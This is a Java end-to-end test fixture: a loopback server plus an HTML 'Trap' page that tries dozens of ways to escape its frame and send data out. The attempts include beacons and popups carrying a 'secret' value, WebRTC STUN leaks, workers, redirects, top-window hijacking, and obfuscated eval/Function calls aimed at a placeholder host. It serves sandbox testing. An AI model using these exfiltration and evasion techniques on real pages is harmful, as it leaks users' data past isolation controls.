package dev.keywheel.e2e;

import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStreamReader;
import java.io.UncheckedIOException;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.NetworkInterface;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.Set;
import java.util.TreeSet;
import java.util.concurrent.ConcurrentSkipListSet;

/**
 * The world outside a tool's frame: a server that notes what it is asked, over TCP (pages, sockets)
 * and UDP (peer connections), and the tool that tries all ways to reach it.
 */
final class Outside implements AutoCloseable {
  private final ServerSocket tcp;
  private final DatagramSocket udp;
  private final Set<String> reached = new ConcurrentSkipListSet<>();

  Outside() throws IOException {
    tcp = new ServerSocket();
    tcp.bind(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0));
    udp = new DatagramSocket(0);
    Thread.ofVirtual().start(this::acceptAll);
    Thread.ofVirtual().start(this::receiveAll);
  }

  /** Paths that were asked for, {@code tcp} for a connection without a request, {@code udp}. */
  Set<String> reached() {
    return new TreeSet<>(reached);
  }

  /** One more request after all others: what was on its way before it has come by then. */
  void askAndAwait(String path) {
    try (var socket = new Socket(InetAddress.getLoopbackAddress(), tcp.getLocalPort())) {
      socket
          .getOutputStream()
          .write(("GET " + path + " HTTP/1.1\r\n\r\n").getBytes(StandardCharsets.US_ASCII));
      socket.getInputStream().readAllBytes();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  void forget() {
    reached.clear();
  }

  private void acceptAll() {
    while (!tcp.isClosed()) {
      try {
        var socket = tcp.accept();
        Thread.ofVirtual().start(() -> answer(socket));
      } catch (IOException closed) {
        return;
      }
    }
  }

  private void answer(Socket socket) {
    try (socket;
        var in =
            new BufferedReader(
                new InputStreamReader(socket.getInputStream(), StandardCharsets.US_ASCII))) {
      var line = in.readLine();
      var words = line == null ? new String[] {""} : line.split(" ");
      var path = words.length > 1 ? words[1].replaceAll("\\?.*", "") : "tcp";
      reached.add(path);
      var type =
          path.contains("css")
              ? "text/css"
              : path.contains("script") || path.contains("worker")
                  ? "text/javascript"
                  : "text/html";
      socket
          .getOutputStream()
          .write(
              ("HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Type: "
                      + type
                      + "\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
                  .getBytes(StandardCharsets.US_ASCII));
    } catch (IOException gone) {
      reached.add("tcp");
    }
  }

  private void receiveAll() {
    var packet = new DatagramPacket(new byte[2_048], 2_048);
    while (!udp.isClosed()) {
      try {
        udp.receive(packet);
        reached.add("udp");
      } catch (IOException closed) {
        return;
      }
    }
  }

  /** An address of this machine that is not loopback, which peer connections leave out. */
  private static String ownAddress() throws IOException {
    return NetworkInterface.networkInterfaces()
        .flatMap(NetworkInterface::inetAddresses)
        .filter(a -> !a.isLoopbackAddress() && a.getAddress().length == 4)
        .map(InetAddress::getHostAddress)
        .findFirst()
        .orElse("127.0.0.1");
  }

  /** The tool; its last try is to take its own frame elsewhere. */
  String tool() {
    try {
      return TOOL.replace("OUT", "http://127.0.0.1:" + tcp.getLocalPort())
          .replace("SOCKET", "ws://127.0.0.1:" + tcp.getLocalPort())
          .replace("STUN", "stun:" + ownAddress() + ":" + udp.getLocalPort());
    } catch (IOException e) {
      throw new java.io.UncheckedIOException(e);
    }
  }

  @Override
  public void close() throws IOException {
    tcp.close();
    udp.close();
  }

  private static final String TOOL =
      """
      <!doctype html><html lang="en"><head><meta charset="utf-8"><title>Trap</title>
      <link rel="dns-prefetch" href="OUT/dns"><link rel="preconnect" href="OUT/preconnect"><link rel="prefetch" href="OUT/prefetch">
      <link rel="preload" as="image" href="OUT/preload"><link rel="stylesheet" href="OUT/css-link"><link rel="icon" href="OUT/icon">
      <style>@import "OUT/css-import"; body{background:url(OUT/css)} @font-face{font-family:f;src:url(OUT/css-font)} h1{font-family:f}</style></head>
      <body><h1>Trap</h1><form id="tool-form" method="post" action="OUT/form-button"><label for="typed">Typed</label><input id="typed" name="typed" value="secret">
      <button id="tool-run">Go</button></form><output id="out"></output><p id="tool-message" role="status"></p>
      <img src="OUT/img-tag" alt=""><iframe src="OUT/frame-tag"></iframe><object data="OUT/object"></object><embed src="OUT/embed">
      <video src="OUT/video" poster="OUT/poster"></video><script src="OUT/script-tag"></script>
      <iframe srcdoc="<img src='OUT/nested-img'><script>fetch('OUT/nested-fetch');try{new RTCPeerConnection({iceServers:[{urls:'STUN'}]}).createDataChannel('x')}catch(e){}</script>"></iframe>
      <script>
      const add = (tag, set) => document.body.append(Object.assign(document.createElement(tag), set));
      const peer = P => { const p = new P({iceServers: [{urls: "STUN"}]}); p.createDataChannel("x"); p.createOffer().then(o => p.setLocalDescription(o)); };
      const blob = code => URL.createObjectURL(new Blob([code], {type: "text/javascript"}));
      const tries = [
        () => fetch("OUT/fetch", {mode: "no-cors"}).catch(() => {}),
        () => window["ev" + "al"]("fetch('OUT/eval', {mode: 'no-cors'}).catch(() => {})"),
        () => new window["Fun" + "ction"]("fetch('OUT/function', {mode: 'no-cors'}).catch(() => {})")(),
        () => { const x = new XMLHttpRequest(); x.open("GET", "OUT/xhr"); x.send(); },
        () => { new Image().src = "OUT/img"; },
        () => navigator.sendBeacon("OUT/beacon", "secret"),
        () => new EventSource("OUT/events"),
        () => new WebSocket("SOCKET/socket"),
        () => new Worker("OUT/worker"),
        () => new Worker(blob("importScripts('OUT/worker-import'); fetch('OUT/worker-fetch')")),
        () => new SharedWorker("OUT/worker-shared"),
        () => import("OUT/script-import").catch(() => {}),
        () => add("script", {src: "OUT/script"}),
        () => add("iframe", {src: "OUT/frame"}),
        () => add("iframe", {srcdoc: "<meta http-equiv=refresh content='0;url=OUT/nested-refresh'>"}),
        () => add("iframe", {srcdoc: "<script>(" + peer + ")(RTCPeerConnection);location='OUT/nested-location'<" + "/script>"}),
        () => add("link", {rel: "prefetch", href: "OUT/link"}),
        () => add("link", {rel: "stylesheet", href: "OUT/css-added"}),
        () => { document.body.style.backgroundImage = "url(OUT/css-style)"; },
        () => add("a", {href: "OUT/download", download: "x"}) || document.querySelector("a").click(),
        () => add("a", {href: "OUT/pinged", ping: "OUT/ping", target: "_blank"}) || [...document.querySelectorAll("a")].pop().click(),
        () => window["op" + "en"]("OUT/popup?typed=secret"),
        () => { window.parent.document.body.innerHTML = ""; },
        () => { top["loc" + "ation"].href = "OUT/top"; },
        () => peer(window["RTC" + "PeerConnection"]),
        () => peer(window["webkitRTC" + "PeerConnection"]),
        () => { const f = document.createElement("iframe"); document.body.append(f); peer(f.contentWindow.RTCPeerConnection); },
        () => new window["Web" + "Transport"]("https://127.0.0.1:1/x"),
        () => { const f = document.createElement("form"); f.method = "post"; f.action = "OUT/form"; document.body.append(f); f.submit(); },
        () => { const f = document.createElement("form"); f.target = "_blank"; f.action = "OUT/form-blank"; document.body.append(f); f.submit(); },
        () => document.getElementById("tool-run").click(),
      ];
      for (const attempt of tries) try { attempt(); } catch (refused) {}
      setTimeout(() => add("meta", {httpEquiv: "refresh", content: "0;url=OUT/refresh"}), 900);
      setTimeout(() => { window["loc" + "ation"] = "OUT/self?typed=secret"; }, 1200);
      </script></body></html>
      """;
}
